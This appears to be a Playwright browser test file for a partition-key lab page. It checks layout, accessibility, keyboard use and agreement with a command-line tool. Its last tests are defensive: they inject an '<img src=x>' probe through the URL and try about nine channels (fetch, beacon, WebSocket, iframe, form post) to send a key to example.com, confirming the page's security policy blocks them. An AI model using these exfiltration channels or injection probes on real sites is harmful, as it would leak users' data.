// The lab in a real browser: it opens from a disk without a complaint, fits its screen, passes axe's checks, and can reach nobody.

import type { Browser, Page } from 'playwright-core';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { panels } from '../../src/lab/panels/index.ts';
import { keylane, root } from '../cli/run.ts';
import { axeFindings, type Look, launchBrowser, openPage, tabTo } from './browser.ts';
import { NASTY_KEYS } from './sources.ts';

const test = suite('lab');
const LAB = `${root}dist/lab/index.html`;
let browser: Browser;
test.before(async () => {
  browser = await launchBrowser();
});
test.after(async () => {
  await browser.close();
});

const looks: [string, Look][] = [
  ['light', {}],
  ['dark', { isDark: true }],
  ['a phone', { width: 360 }],
];

for (const { id } of panels) {
  for (const [look, how] of looks) {
    test(`${id}, ${look}: opens, fits, is accessible`, async () => {
      const { page, problems } = await openPage(browser, `${LAB}#p=${id}`, how);
      await page.locator('#panel').waitFor();
      assert.equal(problems, []);
      await fits(page);
      assert.equal(await axeFindings(page), []);
      if (process.env.KEYLANE_PICTURES) {
        const path = `${process.env.KEYLANE_PICTURES}/lab-${id}-${look.replace('a ', '')}.png`;
        await page.screenshot({ path, fullPage: true });
      }
      await page.context().close();
    });
  }
}

async function fits(page: Page): Promise<void> {
  const [needed, width] = await page.evaluate(() => [document.documentElement.scrollWidth, innerWidth]);
  assert.ok(needed <= width, `${needed} pixels wide`);
}

test('by keyboard: a key is typed, the slider moved, the answer follows', async () => {
  const { page, problems } = await openPage(browser, LAB);
  const verdict = page.locator('.verdict');
  assert.is(await verdict.textContent(), 'order-1001: partition 6 of 12, by the Java client’s rule (murmur2).');
  await tabTo(page, 'Key, or several, one a line');
  await page.keyboard.press('Control+A');
  await page.keyboard.type('order-1');
  assert.match((await verdict.textContent())!, /^order-1: partition 10 of 12/);
  await tabTo(page, 'Partitions');
  await page.keyboard.press('ArrowRight');
  const { keys } = JSON.parse(keylane(['where', 'order-1', '-n', '13', '--json']).out);
  assert.match((await verdict.textContent())!, `partition ${keys[0].answers[0].partition} of 13`);
  assert.equal(problems, []);
  await page.context().close();
});

test('every row of the table says what the command line says', async () => {
  const { page } = await openPage(browser, `${LAB}#k=k%C3%A9y-7&n=1000&a=1`);
  const { keys } = JSON.parse(keylane(['where', 'k\u00e9y-7', '-n', '1000', '--json']).out);
  const answers = keys[0].answers as { partition: number; rules: string[] }[];
  const rows = await page
    .locator('#panel tbody tr')
    .evaluateAll(all => all.map(row => [row.querySelector('td')!.textContent, row.querySelector('code')?.textContent]));
  assert.ok(rows.length > 150);
  for (const [partition, rule] of rows) {
    if (rule === undefined) continue;
    const found = answers.find(({ rules }) => rules.includes(rule!));
    assert.is(partition, found?.partition.toString() ?? 'reads no such key', rule!);
  }
  await page.context().close();
});

test('hostile keys stay text', async () => {
  const { page, problems } = await openPage(browser, LAB);
  for (const key of NASTY_KEYS.filter(key => key.length < 1e5)) {
    await page.locator('#keys').fill(key);
    await page.locator('.verdict').waitFor();
  }
  await page.locator('#keys').fill(NASTY_KEYS.join('\n'));
  assert.equal(await page.locator('#lab img, #lab script, #lab svg').count(), 0);
  await fits(page);
  assert.equal(problems, []);
  await page.context().close();
});

test('a link with nonsense: said, and all else works', async () => {
  const { page, problems } = await openPage(browser, `${LAB}#k=order-1&n=minus&q=%3Cimg%20src=x%3E&%ff`);
  assert.match((await page.locator('[role=alert]').textContent())!, 'n=minus, q=<img src=x>');
  assert.match((await page.locator('.verdict').textContent())!, /^order-1: partition 10 of 12/);
  assert.equal(problems, []);
  await page.context().close();
});

test('your keys never leave this page: no way out is open', async () => {
  const { page } = await openPage(browser, LAB);
  const refused = await page.evaluate(async () => {
    const broken: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => broken.push(effectiveDirective));
    const away = 'https://example.com/?key=order-1001';
    const tries: (() => unknown)[] = [
      () => fetch(away),
      () => navigator.sendBeacon(away),
      () => new WebSocket('wss://example.com/'),
      () => new EventSource(away),
      () => Object.assign(new Image(), { src: away }),
      () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: away })),
      () => document.body.append(Object.assign(document.createElement('iframe'), { src: away })),
      () => {
        const form = Object.assign(document.createElement('form'), { action: away, method: 'post' });
        document.body.append(form);
        form.submit();
      },
      () => document.body.append(Object.assign(document.createElement('video'), { src: away })),
    ];
    for (const attempt of tries) {
      try {
        await attempt();
      } catch {
        // It is counted by its violation.
      }
    }
    await new Promise(resolve => setTimeout(resolve, 300));
    return broken;
  });
  assert.equal([...new Set(refused)].sort(), [
    'connect-src',
    'form-action',
    'frame-src',
    'img-src',
    'media-src',
    'style-src-elem',
  ]);
  assert.ok(refused.filter(directive => directive === 'connect-src').length >= 4, refused.join());
  await page.context().close();
});

test.run();
